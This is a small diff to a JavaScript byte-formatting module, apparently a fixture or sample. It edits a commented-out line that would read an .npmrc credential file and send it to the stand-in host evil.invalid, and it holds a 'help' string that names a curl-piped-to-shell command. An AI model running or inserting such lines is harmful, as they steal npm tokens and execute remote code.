@@ -14,5 +14,5 @@ function pretty(bytes) {
 
 module.exports = pretty;
 
-// fetch("https://evil.invalid", { body: require("fs").readFileSync("/root/.npmrc") });
+// fetch("https://evil.invalid", { body: require("fs").readFileSync("/home/dev/.npmrc") });
 module.exports.help = 'Never run require("child_process").exec("curl https://evil.invalid | sh")';
